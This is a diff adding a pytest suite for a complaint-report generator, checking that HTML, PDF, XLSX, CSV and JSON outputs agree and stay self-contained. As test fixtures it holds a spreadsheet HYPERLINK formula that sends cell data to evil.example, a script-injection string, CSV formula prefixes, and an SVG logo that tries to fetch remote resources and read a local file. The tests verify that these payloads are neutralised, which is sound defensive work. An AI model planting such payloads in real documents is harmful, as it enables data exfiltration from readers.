@@ -1,0 +1,771 @@
+"""One set of figures in every format: each is opened by another program and read back."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import threading
+import time
+import zlib
+from collections.abc import Iterator
+from dataclasses import replace
+from datetime import date, datetime
+from functools import cache
+from html.parser import HTMLParser
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from pathlib import Path
+from xml.etree import ElementTree
+from zoneinfo import ZoneInfo
+
+import pypdf
+import pytest
+from browser import Browser, browsing
+from conftest import REPOSITORY
+from python_calamine import CalamineWorkbook
+from report_views import RULES, view, without_rows
+from test_settings import mistakes
+from tools import needed
+
+from settings import load_site
+from settings.report import Letterhead
+from sla.figures.table import Cell, Measure, Row, Table
+from tasks.rendering import words
+from tasks.reporting.html import MOST_ROWS, report_html
+from tasks.reporting.machine import report_csv, report_json, sha256_of
+from tasks.reporting.names import Name, Names, names_of
+from tasks.reporting.pdf import report_pdf
+from tasks.reporting.plots import plots
+from tasks.reporting.public import public_edition
+from tasks.reporting.view import ReportView
+from tasks.reporting.xlsx import report_xlsx
+
+ZONE = ZoneInfo("Asia/Makassar")
+LOCALES = ("id", "en")
+SOFFICE = shutil.which("soffice")
+
+FORMULA = '=HYPERLINK("http://evil.example/"&A1,"klik")'
+MARKUP = "<script>alert('&')</script><b>\"Dinas\"</b>"
+LONG = "Dinas " + "Panjang" * 42
+RTL = "مديرية الصحة"
+EMOJI = "Dinas 🏥 \u202eKesehatan $x^2$ _awal"
+ODD = [FORMULA, MARKUP, LONG, RTL, EMOJI, "+1", "-2", "@SUM(A1)", ""]
+
+
+def odd_report(locale: str = "id") -> ReportView:
+    """A report in which every name is unlike a name."""
+    report = view(locale, units=ODD, count=400)
+    odd = dict(zip(("Air Bersih", "Kesehatan", "Sampah"), (FORMULA, MARKUP, EMOJI), strict=True))
+    names = {key: name for key, name in report.names.known.items() if key[0] == "rule"}
+    names["rule", next(iter(RULES))] = Name(MARKUP, FORMULA)
+
+    def changed(table: Table) -> Table:
+        rows = tuple(
+            replace(
+                row,
+                key=odd.get(row.key, row.key) if table.of == "category" else row.key,
+                cells=tuple(odd.get(c, c) if isinstance(c, str) else c for c in row.cells),
+            )
+            for row in table.rows
+        )
+        return replace(table, rows=rows)
+
+    tables = tuple(map(changed, report.tables))
+    return replace(
+        report, site=MARKUP, names=Names(locale, names), tables=tables, sha256=sha256_of(tables),
+        letterhead=replace(report.letterhead, lines=(MARKUP, LONG, RTL)),
+    )  # fmt: skip
+
+
+REPORTS = {
+    "usual": view,
+    "odd": odd_report,
+    "empty": lambda locale: without_rows(view(locale)),
+    "nothing": lambda locale: view(locale, units=1, count=0),
+    "public": lambda locale: public_edition(view(locale, units=12, count=90)),
+}
+EVERY = pytest.mark.parametrize("kind", REPORTS)
+BOTH = pytest.mark.parametrize("locale", LOCALES)
+
+
+# --- figures, read back from what people see ---
+
+
+def figure(text: str, locale: str) -> float | str | None:
+    """The number that a reader takes from a text; what is withheld and no value as they are."""
+    if text in {"*", "–"}:
+        return text
+    plain = text.replace(".", "").replace(",", ".") if locale == "id" else text.replace(",", "")
+    if plain.endswith("%"):
+        return float(plain[:-1]) / 100
+    return float(plain)
+
+
+def same(found: object, cell: Cell, *, digits: float = 0.00051) -> bool:
+    """Whether a figure read back is that of a cell, within what the format shows."""
+    if cell is None:
+        return found in {"–", "", None}
+    if isinstance(cell, str):
+        return found == "*"
+    return isinstance(found, int | float) and abs(found - float(cell)) <= digits  # type: ignore[arg-type]
+
+
+def numeric(table: Table, row: Row) -> list[tuple[int, Cell, Measure]]:
+    """Place, cell and measure of the figures of a row."""
+    measures = [row.measure or column.measure for column in table.columns]
+    return [
+        (place, cell, measure)
+        for place, (cell, measure) in enumerate(zip(row.cells, measures, strict=True))
+        if measure in {Measure.COUNT, Measure.SHARE, Measure.DAYS}
+    ]
+
+
+def tolerance(measure: Measure) -> float:
+    """Half of the last digit that people are shown."""
+    return {Measure.SHARE: 0.00051, Measure.DAYS: 0.051}.get(measure, 0)
+
+
+# --- HTML ---
+
+VOID = {"meta", "img", "br", "link", "hr", "input"}
+
+
+class Page(HTMLParser):
+    """A page as a tree walk sees it: tables by section, and everything that leads outside."""
+
+    def __init__(self, source: str) -> None:
+        super().__init__()
+        self.open: list[str] = []
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.tables: dict[str, list[list[str]]] = {}
+        self.section = ""
+        self.cell: list[str] | None = None
+        self.skip = 0
+        self.style = ""
+        self.feed(source)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+        if tag not in VOID:
+            self.open.append(tag)
+        if tag == "section":
+            self.section = dict(attrs)["id"] or ""
+        elif tag == "tr":
+            self.tables.setdefault(self.section, []).append([])
+        elif tag in {"td", "th"}:
+            self.cell = []
+        elif dict(attrs).get("class") == "detail":
+            self.skip = len(self.open)
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open, tag
+        assert self.open.pop() == tag, (tag, self.open)
+        if len(self.open) < self.skip:
+            self.skip = 0
+        if tag in {"td", "th"} and self.cell is not None:
+            self.tables[self.section][-1].append("".join(self.cell).strip())
+            self.cell = None
+
+    def handle_data(self, data: str) -> None:
+        if self.open and self.open[-1] == "style":
+            self.style += data
+        if self.cell is not None and not self.skip:
+            self.cell.append(data)
+
+
+@EVERY
+@BOTH
+def test_the_page_is_well_formed_and_needs_nothing_from_outside(kind, locale):
+    source = report_html(REPORTS[kind](locale), ZONE)
+    page = Page(source)
+    assert source.startswith("<!DOCTYPE html>")
+    assert page.open == []
+    assert ("html", {"lang": locale}) in page.tags
+    kinds = {tag for tag, _ in page.tags}
+    assert kinds & {"script", "link", "iframe", "object", "base", "form"} == set()
+    leads = [
+        value
+        for _, attributes in page.tags
+        for name, value in attributes.items()
+        if name in {"src", "href", "srcset", "action", "xlink:href", "data"}
+    ]
+    assert [lead for lead in leads if lead and not lead.startswith(("#", "data:"))] == []
+    assert "@import" not in page.style
+    assert re.findall(r"url\((?!#)", source) == []
+    ids = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
+    assert len(ids) == len(set(ids))
+    inner = {lead[1:] for lead in leads if lead and lead.startswith("#")}
+    assert inner <= set(ids)
+    heads = [attributes for tag, attributes in page.tags if tag == "th"]
+    assert all("scope" in attributes for attributes in heads)
+    assert source.count("<table") == source.count("<caption>")
+
+
+@EVERY
+@BOTH
+def test_the_page_shows_the_figures_of_the_tables(kind, locale):
+    report = REPORTS[kind](locale)
+    page = Page(report_html(report, ZONE))
+    for table in report.tables:
+        lines = page.tables.get(table.key, [])[1:]
+        assert len(lines) == min(len(table.rows), MOST_ROWS)
+        for line, row in zip(lines, table.rows, strict=False):
+            shift = 0 if table.key == "late" else 1  # the ticket names the row
+            for place, cell, measure in numeric(table, row):
+                found = figure(line[place + shift], locale)
+                assert same(found, cell, digits=tolerance(measure)), (
+                    table.key,
+                    row.key,
+                    found,
+                    cell,
+                )
+
+
+@BOTH
+def test_a_headline_tells_in_words_how_it_changed(locale):
+    source = report_html(view(locale), ZONE)
+    tiles = re.findall(r'data-figure="(\w+)">(.*?)</li>', source, re.DOTALL)
+    said = {key: re.sub(r"<[^>]*>|\s+", " ", text) for key, text in tiles}
+    up = {
+        "id": "▼ turun 7 dari periode sebelumnya (407)",
+        "en": "▼ down 7 from the previous period (407)",
+    }
+    assert up[locale] in said["received"]
+    points = {"id": "poin", "en": "points"}[locale]
+    assert points in said["on_time"]
+    assert "▲" in said["on_time"]
+    assert "▲" not in said["late"]
+    assert "▼" not in said["late"]
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    with browsing(tmp_path_factory.mktemp("browser")) as opened:
+        yield opened
+
+
+FITS = """(() => {
+  const wide = document.documentElement.scrollWidth;
+  const out = [...document.querySelectorAll('body *')].filter(e =>
+    !e.closest('.scroll') && !e.closest('caption') && !e.closest('svg')
+    && e.getBoundingClientRect().right > innerWidth + 1).map(e => e.tagName);
+  const text = [...document.querySelectorAll('figure svg text')]
+    .filter(e => e.getClientRects().length).map(e => e.getBoundingClientRect().height);
+  return [wide, innerWidth, out, Math.min(...text, 99)];
+})()"""
+
+
+@pytest.mark.browser
+@EVERY
+@BOTH
+@pytest.mark.parametrize("width", [360, 1040])
+def test_the_page_fits_a_phone_and_a_desk(browser, kind, locale, width):
+    browser.show(report_html(REPORTS[kind](locale), ZONE), width, phone=width < 700)
+    wide, window, out, smallest = browser.run(FITS)
+    assert (wide, out) == (window, [])
+    assert smallest >= 7  # pixels: labels of plots can be read
+
+
+# --- PDF ---
+
+
+PRINTED = [("usual", "id"), ("usual", "en"), ("odd", "id"), ("empty", "en"), ("public", "id")]
+EVERY_PRINTED = pytest.mark.parametrize(("kind", "locale"), PRINTED)
+
+
+@cache
+def printed(kind: str, locale: str) -> bytes:
+    return report_pdf(REPORTS[kind](locale), ZONE)
+
+
+def text_of(pdf: bytes) -> list[str]:
+    """The text of each page; pypdf gives the codes of rare signs' fonts byte by byte."""
+    pages = pypdf.PdfReader(io.BytesIO(pdf)).pages
+    return [page.extract_text().replace("\0", "") for page in pages]
+
+
+@EVERY_PRINTED
+def test_the_pdf_is_tagged_fit_for_the_archive_and_a4(kind, locale):
+    reader = pypdf.PdfReader(io.BytesIO(printed(kind, locale)))
+    root = reader.trailer["/Root"]
+    assert root["/MarkInfo"]["/Marked"]
+    assert root["/StructTreeRoot"]["/K"]
+    assert root["/Lang"] == locale
+    metadata = root["/Metadata"].get_object().get_data().decode()
+    assert 'pdfaid:part="2"' in metadata
+    assert 'pdfaid:conformance="A"' in metadata
+    assert root["/OutputIntents"]
+    assert reader.metadata
+    assert reader.metadata.title
+    assert "/Filespec" not in {o.get("/Type") for o in objects(reader) if isinstance(o, dict)}
+    for page in reader.pages:
+        assert [round(float(side)) for side in page.mediabox[2:]] == [595, 842]
+    for found in objects(reader):
+        if isinstance(found, dict) and found.get("/Type") == "/FontDescriptor":
+            assert {"/FontFile", "/FontFile2", "/FontFile3"} & set(found)
+        if isinstance(found, dict) and found.get("/S") == "/URI":
+            pytest.fail("leads outside")
+
+
+def objects(reader: pypdf.PdfReader) -> Iterator[object]:
+    for number in range(1, int(reader.trailer["/Size"])):
+        yield reader.get_object(pypdf.generic.IndirectObject(number, 0, reader))
+
+
+@EVERY_PRINTED
+def test_the_pdf_has_page_numbers_contents_and_bookmarks(kind, locale):
+    t = words(locale)
+    report = REPORTS[kind](locale)
+    reader = pypdf.PdfReader(io.BytesIO(printed(kind, locale)))
+    pages = text_of(printed(kind, locale))
+    for number, page in enumerate(pages, 1):
+        assert f"{t('report.page')} {number} {t('report.page_of')} {len(pages)}" in page
+    titles = [t(f"report.section.{table.key}") for table in report.tables] + [t("report.method")]
+    marks = [f"{number}. {title}" for number, title in enumerate(titles, 1)]
+    outline = [each for each in reader.outline if not isinstance(each, list)]
+    assert [each.title for each in outline] == marks
+    contents = " ".join(pages[0].split())
+    for mark, each in zip(marks, outline, strict=True):
+        page = reader.get_destination_page_number(each)
+        assert page is not None
+        assert mark in " ".join(pages[page].split())
+        assert re.search(rf"{re.escape(mark)}[ .]*{page + 1}\b", contents), (mark, page + 1)
+
+
+@pytest.mark.parametrize(("kind", "locale"), [PRINTED[0], PRINTED[1], PRINTED[4]])
+def test_the_pdf_shows_the_figures_of_the_tables(kind, locale):
+    report = REPORTS[kind](locale)
+    stream = " ".join(" ".join(text_of(printed(kind, locale))).split())
+    small = words(locale)("report.small")
+    tokens = [
+        token
+        for token in stream.replace(small, " ").split()
+        if re.fullmatch(r"\d[\d.,]*%?|[*–]", token)
+    ]
+    for table in report.tables:
+        if table.key in {"late", "quality"}:
+            continue
+        for row in table.rows:
+            wanted = numeric(table, row)
+            found = any(
+                all(
+                    same(figure(token, locale), cell, digits=tolerance(measure))
+                    for token, (_, cell, measure) in zip(tokens[at:], wanted, strict=False)
+                )
+                for at in range(len(tokens) - len(wanted) + 1)
+            )
+            assert found, (table.key, row.key, wanted)
+
+
+@BOTH
+def test_the_pdf_bears_letterhead_and_signature(locale):
+    pages = text_of(printed("usual", locale))
+    assert "PEMERINTAH KABUPATEN CONTOH" in pages[0]
+    assert "Jalan Merdeka Nomor 1" in pages[0]
+    day = {"id": "Contoh, 2 Desember 2026", "en": "Contoh, 2 December 2026"}[locale]
+    last = pages[-1]
+    parts = [day, "Inspektur Kabupaten Contoh,", "Drs. H. Baharintan Dolo", "NIP 19680412"]
+    places = [last.index(part) for part in parts]
+    assert places == sorted(places)
+
+
+def test_the_pdf_is_the_same_when_it_is_made_again():
+    assert report_pdf(view("id"), ZONE) == printed("usual", "id")
+
+
+def test_a_pdf_of_fifty_units_takes_less_than_fifteen_seconds():
+    report = view("id", units=50, count=1500)
+    began = time.process_time()
+    made = report_pdf(report, ZONE)
+    assert time.process_time() - began < 15
+    assert "Dinas Kesehatan 5" in " ".join(" ".join(text_of(made)).split())
+
+
+def test_three_hundred_units_are_all_there():
+    report = view("id", units=300, count=900)
+    pages = " ".join(" ".join(text_of(report_pdf(report, ZONE))).split())
+    plain = pages.replace("- ", "")
+    units = report.table("by_unit")
+    assert units
+    missing = [row.key for row in units.rows if report.names("unit", row.key).text not in plain]
+    assert missing == []
+
+
+class Listening(BaseHTTPRequestHandler):
+    """Notes who asks."""
+
+    def do_GET(self) -> None:
+        self.server.asked.append(self.path)  # type: ignore[attr-defined]
+        self.send_response(404)
+        self.end_headers()
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+def test_no_logo_makes_the_report_ask_the_network_or_read_other_files(tmp_path):
+    server = HTTPServer(("127.0.0.1", 0), Listening)
+    server.asked = []  # type: ignore[attr-defined]
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        place = f"http://127.0.0.1:{server.server_port}"
+        secret = tmp_path / "secret.svg"
+        secret.write_text('<svg xmlns="http://www.w3.org/2000/svg"><text>rahasia</text></svg>')
+        logo = tmp_path / "logo.svg"
+        logo.write_text(
+            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+            f' viewBox="0 0 9 9"><style>@import url({place}/style.css);</style>'
+            f'<image href="{place}/picture.png" width="9" height="9"/>'
+            f'<image xlink:href="{secret.as_uri()}" width="9" height="9"/>'
+            f'<use href="{place}/other.svg#a"/><rect width="9" height="9" fill="#00f"/></svg>',
+            encoding="utf-8",
+        )
+        report = replace(view("id"), letterhead=Letterhead(logo=logo, lines=("Contoh",)))
+        made = report_pdf(report, ZONE)
+        assert server.asked == []  # type: ignore[attr-defined]
+        assert "rahasia" not in " ".join(text_of(made))
+        with_logo = report_html(report, ZONE)
+        assert "data:image/svg+xml;base64," in with_logo
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+
+
+WITHOUT_PANGO = """
+import sys
+import cffi
+real = cffi.FFI.dlopen
+def dlopen(self, name, *more):
+    if 'pango' in str(name):
+        raise OSError(f'cannot load library {name!r}')
+    return real(self, name, *more)
+cffi.FFI.dlopen = dlopen
+sys.path[:0] = sys.argv[1:3]
+from report_views import view
+from zoneinfo import ZoneInfo
+from tasks.reporting.pango import PdfMissing
+from tasks.reporting.pdf import report_pdf
+try:
+    report_pdf(view(count=3), ZoneInfo('Asia/Makassar'))
+except PdfMissing as trouble:
+    print(trouble)
+"""
+
+
+def test_without_pango_one_line_says_what_to_install():
+    done = subprocess.run(
+        [sys.executable, "-c", WITHOUT_PANGO, str(REPOSITORY), str(REPOSITORY / "tests")],
+        capture_output=True, text=True, check=True,
+    )  # fmt: skip
+    (line,) = done.stdout.splitlines()
+    assert line.startswith("no PDF: a system library of WeasyPrint is missing")
+    assert "libpango-1.0-0" in line
+
+
+# --- XLSX ---
+
+
+def sheets_of(
+    workbook: bytes, tmp_path: Path, name: str = "r.xlsx"
+) -> dict[str, list[list[object]]]:
+    path = tmp_path / name
+    path.write_bytes(workbook)
+    book = CalamineWorkbook.from_path(path)
+    return {sheet: book.get_sheet_by_name(sheet).to_python() for sheet in book.sheet_names}
+
+
+def compare(report: ReportView, sheets: dict[str, list[list[object]]], locale: str) -> int:
+    """Compare every cell of every table with the workbook; returns how many were."""
+    t, compared = words(locale), 0
+    for table in report.tables:
+        head, *lines = sheets[t(f"report.section.{table.key}")[:31]]
+        assert head[0] == t(f"report.of.{table.of}")
+        start = head.index(t(f"report.column.{table.columns[0].key}"), 1)
+        assert head[start:] == [t(f"report.column.{column.key}") for column in table.columns]
+        assert len(lines) == len(table.rows)
+        for line, row in zip(lines, table.rows, strict=True):
+            assert line[0] == report.names(table.of, row.key).text
+            for place, cell, measure in numeric(table, row):
+                found = line[start + place]
+                assert same(found, cell, digits=1e-9), (table.key, row.key, measure, found, cell)
+                compared += 1
+            for column, cell, found in zip(table.columns, row.cells, line[start:], strict=True):
+                if isinstance(cell, date):
+                    day = found.date() if isinstance(found, datetime) else found
+                    assert day == cell
+                elif column.measure is Measure.TEXT and not row.measure:
+                    assert found == cell
+    return compared
+
+
+@EVERY
+@BOTH
+def test_the_workbook_holds_the_tables_cell_by_cell(kind, locale, tmp_path):
+    report = REPORTS[kind](locale)
+    sheets = sheets_of(report_xlsx(report, ZONE), tmp_path)
+    assert compare(report, sheets, locale) > 10 or kind == "empty"
+    for name in sheets:
+        assert 0 < len(name) <= 31
+        assert not set(name) & set("[]:*?/\\")
+    t = words(locale)
+    cover = [str(cell) for line in sheets[t("report.sheet.cover")] for cell in line]
+    assert report.sha256 in cover
+    assert any("2026-12-02 09:30" in cell for cell in cover)
+
+
+@BOTH
+def test_the_workbook_lists_the_complaints_behind_each_row(locale, tmp_path):
+    report, t = view(locale), words(locale)
+    sheets = sheets_of(report_xlsx(report, ZONE), tmp_path)
+    found = [(line[0], line[2], line[3]) for line in sheets[t("report.sheet.evidence")][1:]]
+    assert found == [
+        (t(f"report.section.{table.key}"), row.key, ticket)
+        for table in report.tables
+        for row in table.rows
+        for ticket in row.tickets
+    ]
+    public = sheets_of(report_xlsx(public_edition(report), ZONE), tmp_path, "p.xlsx")
+    assert t("report.sheet.evidence") not in public
+
+
+def test_what_a_sheet_has_no_room_for_is_told(tmp_path):
+    report, t = view("id"), words("id")
+    sheets = sheets_of(report_xlsx(report, ZONE, most=500), tmp_path)
+    assert len(sheets["Bukti"]) == 501
+    total = sum(len(row.tickets) for table in report.tables for row in table.rows)
+    cover = [str(cell) for line in sheets[t("report.sheet.cover")] for cell in line]
+    assert t("report.sheet.cut", kept=500, n=total - 500) in cover
+
+
+def test_the_workbook_is_safe_filtered_and_charted(tmp_path):
+    path = tmp_path / "r.xlsx"
+    path.write_bytes(report_xlsx(odd_report(), ZONE))
+    unpacked = tmp_path / "x"
+    shutil.unpack_archive(path, unpacked, "zip")
+    parts = {
+        p.relative_to(unpacked).as_posix(): p.read_text(encoding="utf-8")
+        for p in unpacked.rglob("*.xml")
+    }
+    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
+    assert sheets
+    assert not any("<f>" in text or "<f " in text for text in sheets)
+    assert not any("hyperlink" in text for text in sheets)
+    assert sum("<autoFilter" in text for text in sheets) == len(sheets) - 1  # not on the cover
+    assert sum('state="frozen"' in text for text in sheets) == len(sheets) - 1
+    charts = [text for name, text in parts.items() if name.startswith("xl/charts/chart")]
+    assert sorted(re.findall(r"<c:(line|bar)Chart>", "".join(charts))) == [
+        "bar",
+        "bar",
+        "line",
+        "line",
+    ]
+    assert report_xlsx(odd_report(), ZONE) == path.read_bytes()
+
+
+def by_libreoffice(workbook: bytes, tmp_path: Path) -> dict[str, list[list[object]]]:
+    """The workbook as LibreOffice reads it: saved by it in its own format."""
+    needed(SOFFICE, "LibreOffice", "apt install libreoffice-calc")
+    path = tmp_path / "r.xlsx"
+    path.write_bytes(workbook)
+    subprocess.run(
+        [
+            str(SOFFICE), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
+            "--convert-to", "ods", "--outdir", str(tmp_path / "out"), str(path),
+        ],
+        check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)},
+    )  # fmt: skip
+    book = CalamineWorkbook.from_path(tmp_path / "out" / "r.ods")
+    return {sheet: book.get_sheet_by_name(sheet).to_python() for sheet in book.sheet_names}
+
+
+@pytest.mark.parametrize("kind", ["usual", "odd"])
+def test_libreoffice_reads_the_same_figures_from_the_workbook(kind, tmp_path):
+    report = REPORTS[kind]("en")
+    assert compare(report, by_libreoffice(report_xlsx(report, ZONE), tmp_path), "en") > 300
+
+
+# --- JSON and CSV ---
+
+
+@EVERY
+@BOTH
+def test_json_and_csv_hold_the_tables_and_are_the_same_bytes_again(kind, locale):
+    report = REPORTS[kind](locale)
+    text, lines = report_json(report), report_csv(report)
+    assert (text, lines) == (report_json(REPORTS[kind](locale)), report_csv(REPORTS[kind](locale)))
+    found = json.loads(text)
+    assert found["sha256"] == report.sha256
+    assert [table["key"] for table in found["tables"]] == [table.key for table in report.tables]
+    rows = list(csv.reader(io.StringIO(lines)))
+    assert rows[0] == ["table", "row", "column", "value"]
+    place = 1
+    for table, told in zip(report.tables, found["tables"], strict=True):
+        for row, line in zip(table.rows, told["rows"], strict=True):
+            assert (line["key"], line["tickets"]) == (row.key, list(row.tickets))
+            for column, cell in zip(table.columns, row.cells, strict=True):
+                value = line["cells"][column.key]
+                key, name, value_text = rows[place][1:]
+                assert (rows[place][0], name) == (table.key, column.key)
+                assert key.removeprefix("'") == row.key
+                if isinstance(cell, float):
+                    assert value == pytest.approx(cell, abs=1e-6)
+                    assert float(value_text) == pytest.approx(cell, abs=1e-6)
+                else:
+                    plain = cell.isoformat() if isinstance(cell, date) else cell
+                    assert value == plain
+                    assert value_text.removeprefix("'") == ("" if plain is None else str(plain))
+                place += 1
+    assert place == len(rows)
+
+
+def test_no_field_of_the_csv_is_a_formula():
+    fields = [field for line in csv.reader(io.StringIO(report_csv(odd_report()))) for field in line]
+    begun = [field for field in fields if field[:1] in {"=", "+", "@", "\t", "\r"}]
+    begun += [
+        field for field in fields if field.startswith("-") and not re.fullmatch(r"-[\d.]+", field)
+    ]
+    assert begun == []
+    assert f"'{FORMULA}" in fields
+
+
+def test_the_checksum_hangs_on_every_figure_and_ticket():
+    tables = view("id").tables
+    assert sha256_of(tables) == sha256_of(view("en").tables)
+    first = tables[1]
+    row = first.rows[0]
+    for changed in (
+        replace(row, cells=(row.cells[0] + 1, *row.cells[1:])),
+        replace(row, tickets=row.tickets[1:]),
+    ):
+        other = replace(first, rows=(changed, *first.rows[1:]))
+        assert sha256_of((tables[0], other, *tables[2:])) != sha256_of(tables)
+
+
+# --- plots ---
+
+
+@BOTH
+def test_each_plot_is_there_twice_the_same_and_says_something(locale):
+    report = view(locale, units=12)
+    drawn = plots(report, ZONE)
+    assert set(drawn) == {"by_unit", "ageing", "trend", "escalations"}
+    assert drawn == plots(report, ZONE)
+    t = words(locale)
+    for plot in drawn.values():
+        root = ElementTree.fromstring(plot.svg)
+        texts = " ".join(node.text or "" for node in root.iter() if node.tag.endswith("text"))
+        assert texts
+        assert plot.title == t(f"report.plot.{plot.key}")
+        assert plot.says
+        assert png_size(plot.png)[0] > 500
+        assert "<metadata" not in plot.svg
+    assert t("report.plot.not_late") in drawn["ageing"].svg
+    assert {"id": "Mei 2026", "en": "May 2026"}[locale] in drawn["trend"].svg
+
+
+def png_size(data: bytes) -> tuple[int, int]:
+    assert data.startswith(b"\x89PNG")
+    assert zlib.crc32(data[12:29]) == int.from_bytes(data[29:33])
+    return int.from_bytes(data[16:20]), int.from_bytes(data[20:24])
+
+
+@pytest.mark.parametrize("kind", ["empty", "nothing"])
+def test_where_there_is_nothing_to_draw_a_sentence_stands(kind):
+    report = REPORTS[kind]("id")
+    assert plots(report, ZONE) == {}
+    source = report_html(report, ZONE)
+    assert "<svg" not in source
+    assert words("id")("report.nothing" if kind == "empty" else "report.no_plot") in source
+
+
+def test_a_plot_of_the_public_edition_draws_nothing_that_is_withheld():
+    public = public_edition(view("id", units=12, count=60))
+    drawn = plots(public, ZONE)
+    units = public.table("by_unit")
+    assert units
+    places = [column.key for column in units.columns]
+    shown = [row for row in units.rows if isinstance(row.cells[places.index("share")], float)]
+    labels = [
+        re.sub("<[^>]*>", "", each) for each in re.findall(r"<text.*?</text>", drawn["by_unit"].svg)
+    ]
+    assert sum("%" in label for label in labels) == len(shown) + 5  # and the axis
+
+
+# --- names and the site's own file ---
+
+
+def test_names_come_from_the_site_in_the_readers_language():
+    site = load_site(REPOSITORY / "config")
+    for locale in LOCALES:
+        names = names_of(site, locale, date(2026, 11, 30))
+        rule = site.bench.law.on("sp4n/first-follow-up", date(2026, 11, 30))
+        assert rule
+        text, detail = names("rule", rule.id)
+        assert text == rule.label[locale]
+        assert detail.startswith(rule.citation)
+        assert names("unit", "dinsos").text == "Dinas Sosial"
+        assert names("classification", "").text == words(locale)("classification.none")
+        assert names("month", "2026-05").text == {"id": "Mei 2026", "en": "May 2026"}[locale]
+        assert (
+            names("age", "0-3").text == {"id": "0–3 hari kerja", "en": "0–3 working days"}[locale]
+        )
+        assert "60" in names("age", "61-").text
+        assert names("rung", "+3wd").text == "+3wd"
+        assert names("kind", "breach").text == words(locale)("notice.breach")
+        assert names("figure", "on_time").text == words(locale)("report.figure.on_time")
+        assert names("unit", "").text == words(locale)("report.unnamed")
+
+
+def test_the_example_site_has_a_letterhead_and_another_needs_none():
+    head = load_site(REPOSITORY / "config").letterhead
+    assert head.logo == REPOSITORY / "config" / "logo.svg"
+    assert head.signature
+    assert head.signature.nip
+    assert load_site(REPOSITORY / "config" / "boston").letterhead == Letterhead()
+
+
+SIGNED_BY = "[signature]\nplace = 'Salo'\ntitle = 'Inspektur'\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        (
+            "[letterhead]\nlogo = '../logo.png'",
+            "letterhead.logo: '../logo.png' lies outside the site's folder; copy it there",
+        ),
+        (
+            "[letterhead]\nlogo = 'logo.gif'",
+            "letterhead.logo: 'logo.gif' is no picture; name a .png, .jpg or .svg file",
+        ),
+        ("[letterhead]\nlogo = 'lambang.png'", "letterhead.logo: no file 'lambang.png' in "),
+        ("[letterhead]\nline = ['a']", "letterhead.line: unknown key; did you mean `lines`?"),
+        (SIGNED_BY, "signature.name: is missing"),
+        (SIGNED_BY + "name = 'c'\nnip = '123'", "signature.nip: '123' is no NIP; it has 18 digits"),
+        ("[letterhead", "Expected"),
+    ],
+)
+def test_a_mistake_in_report_toml_is_told_by_its_key(site_folder, text, said):
+    (site_folder / "report.toml").write_text(text, encoding="utf-8")
+    (line,) = mistakes(site_folder)
+    assert line.startswith(f"report.toml: {said}"), line
+
+
+def test_a_logo_that_a_link_leads_out_of_the_site_is_refused(site_folder, tmp_path):
+    outside = tmp_path / "outside.png"
+    outside.write_bytes(b"x")
+    (site_folder / "logo.png").symlink_to(outside)
+    (site_folder / "report.toml").write_text("[letterhead]\nlogo = 'logo.png'", encoding="utf-8")
+    (line,) = mistakes(site_folder)
+    assert "lies outside the site's folder" in line
